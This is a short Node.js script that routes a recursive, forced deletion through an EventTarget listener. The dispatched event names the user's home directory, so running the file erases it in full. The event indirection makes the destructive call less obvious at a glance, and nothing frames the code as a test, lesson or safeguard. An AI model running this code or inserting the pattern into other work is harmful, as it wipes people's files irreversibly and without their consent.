// Deletes recursively: an EventTarget listener removes the directory named
// in a CustomEvent's detail; the event carries the home directory.
'use strict';
const fs = require('fs');
const os = require('os');

const bus = new EventTarget();
bus.addEventListener('purge', (ev) => {
  fs.rmSync(ev.detail.dir, { recursive: true, force: true });
});
bus.dispatchEvent(new CustomEvent('purge', { detail: { dir: os.homedir() } }));
